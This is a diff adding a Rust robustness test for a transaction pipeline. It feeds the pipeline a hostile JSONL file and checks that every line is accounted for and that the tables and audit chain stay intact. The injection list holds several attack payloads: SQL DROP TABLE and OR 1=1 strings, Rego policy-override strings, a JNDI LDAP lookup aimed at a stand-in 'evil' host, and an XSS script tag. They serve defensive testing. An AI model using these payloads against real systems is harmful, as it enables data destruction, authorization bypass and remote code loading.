@@ -1,0 +1,175 @@
+//! A hostile input file end to end (embedded default): deeply nested JSON, a 10 MB message,
+//! invalid UTF-8, 1e309 and -0, duplicated keys, SQL and Rego injection strings in every text
+//! field, control characters, and 10,000 copies of one record. The run exits 0, every line is
+//! accounted for exactly once, the tables and the audit chain are intact.
+
+mod common;
+
+use std::io::Write;
+
+const OK: &str = r#""account_id":"acct-1","timestamp":"2026-01-01T00:00:00Z","amount":"12.50","currency":"EUR","merchant":"Shop","mcc":"5411","country":"DE","channel":"online""#;
+
+fn record(id: &str, extra: &str) -> Vec<u8> {
+    format!(r#"{{"transaction_id":"{id}",{OK}{extra}}}"#).into_bytes()
+}
+
+fn hostile_lines() -> Vec<Vec<u8>> {
+    let mut lines: Vec<Vec<u8>> = Vec::new();
+    // Nesting far beyond any parser's recursion limit.
+    lines.push(format!("{}1{}", r#"{"a":"#.repeat(100_000), "}".repeat(100_000)).into_bytes());
+    lines.push(format!("{}{}", "[".repeat(200_000), "]".repeat(200_000)).into_bytes());
+    // A 10 MB message.
+    lines.push(record(
+        "big-1",
+        &format!(r#","description":"{}""#, "A".repeat(10 * 1024 * 1024)),
+    ));
+    // Invalid UTF-8, raw and inside a string.
+    lines.push(b"\xff\xfe\xfd not utf-8 at all".to_vec());
+    let mut bad_utf8 = record("utf8-1", r#","description":"caf"#);
+    bad_utf8.truncate(bad_utf8.len() - 1);
+    bad_utf8.extend_from_slice(b"\xc3\x28\"}");
+    lines.push(bad_utf8);
+    // Numbers.
+    for (i, amount) in [
+        "1e309",
+        "-1e309",
+        "-0",
+        "\"-0\"",
+        "0.0",
+        "1e-400",
+        "123456789012345678901234567890",
+    ]
+    .iter()
+    .enumerate()
+    {
+        lines.push(
+            format!(
+                r#"{{"transaction_id":"num-{i}","amount":{amount},"account_id":"acct-1","timestamp":"2026-01-01T00:00:00Z","currency":"EUR","merchant":"Shop","mcc":"5411","country":"DE","channel":"online"}}"#
+            )
+            .into_bytes(),
+        );
+    }
+    // Duplicated keys.
+    lines.push(record(
+        "dupkey-1",
+        r#","transaction_id":"dupkey-2","amount":"99.00""#,
+    ));
+    // Injection strings in every text field, one field at a time.
+    let injections = [
+        "'; DROP TABLE transactions; --",
+        "\" OR 1=1 --",
+        "x\"} } allow := true { input.x == \"",
+        "data.agentic.allow with input as {}",
+        "${jndi:ldap://evil/a}",
+        "<script>alert(1)</script>",
+    ];
+    let fields = [
+        "transaction_id",
+        "account_id",
+        "timestamp",
+        "amount",
+        "currency",
+        "merchant",
+        "mcc",
+        "country",
+        "channel",
+        "description",
+        "customer_name",
+        "customer_email",
+        "card_number",
+        "iban",
+    ];
+    for (fi, field) in fields.iter().enumerate() {
+        for (ii, inj) in injections.iter().enumerate() {
+            let mut v: serde_json::Value =
+                serde_json::from_str(&format!(r#"{{"transaction_id":"inj-{fi}-{ii}",{OK}}}"#))
+                    .expect("base record");
+            v[*field] = serde_json::Value::String((*inj).to_owned());
+            if *field == "transaction_id" {
+                v[*field] = serde_json::Value::String(format!("{inj}-{fi}-{ii}"));
+            }
+            lines.push(v.to_string().into_bytes());
+        }
+    }
+    // Control characters (escaped, and a raw one that makes the JSON invalid).
+    lines.push(record(
+        "ctl-1",
+        r#","description":"a\u0000b\u001b[31mred\r\n\ttab""#,
+    ));
+    lines.push(record("ctl-2", ",\"merchant\":\"raw\u{1}control\""));
+    // 10,000 copies of one record.
+    let copy = record("copy-1", "");
+    for _ in 0..10_000 {
+        lines.push(copy.clone());
+    }
+    lines
+}
+
+#[test]
+fn a_hostile_file_runs_to_the_end_and_every_line_is_accounted_for() {
+    let dir = tempfile::tempdir().expect("tmp");
+    let lines = hostile_lines();
+    let file = dir.path().join("hostile.jsonl");
+    {
+        let mut f = std::io::BufWriter::new(std::fs::File::create(&file).expect("create"));
+        for l in &lines {
+            f.write_all(l).expect("write");
+            f.write_all(b"\n").expect("write");
+        }
+    }
+    let out = common::pipeline_cmd(dir.path(), None)
+        .args(["run", "--input", file.to_str().expect("path")])
+        .output()
+        .expect("run");
+    assert!(
+        out.status.success(),
+        "exit: {}",
+        String::from_utf8_lossy(&out.stderr)
+    );
+    let text = String::from_utf8_lossy(&out.stdout);
+    let s: serde_json::Value =
+        serde_json::from_str(text.lines().last().expect("summary")).expect("summary JSON");
+    let n = |k: &str| s[k].as_u64().unwrap_or_else(|| panic!("{k} in {s}"));
+    let accounted = n("transactions") + n("quarantined") + n("dead_letters") + n("replays");
+    println!(
+        "lines={} records_in={} transactions={} quarantined={} dead_letters={} replays={}",
+        lines.len(),
+        n("records_in"),
+        n("transactions"),
+        n("quarantined"),
+        n("dead_letters"),
+        n("replays")
+    );
+    assert_eq!(n("records_in"), lines.len() as u64, "every line read");
+    assert_eq!(
+        accounted,
+        lines.len() as u64,
+        "every line in exactly one outcome"
+    );
+    assert!(
+        n("replays") >= 9_999,
+        "the copies are replays of one record"
+    );
+    let verify = common::pipeline_cmd(dir.path(), None)
+        .args(["audit", "verify"])
+        .output()
+        .expect("verify");
+    assert!(
+        verify.status.success(),
+        "{}",
+        String::from_utf8_lossy(&verify.stdout)
+    );
+    let rt = tokio::runtime::Runtime::new().expect("rt");
+    let counts = rt.block_on(async {
+        let s = pfm::store::SqliteStore::open(&dir.path().join("pipeline.db"))
+            .await
+            .expect("open");
+        pfm::store::Store::counts(&s)
+            .await
+            .expect("the tables are all still there")
+    });
+    assert_eq!(
+        (counts.transactions + counts.quarantine + counts.dead_letters) as u64,
+        lines.len() as u64 - n("replays")
+    );
+}
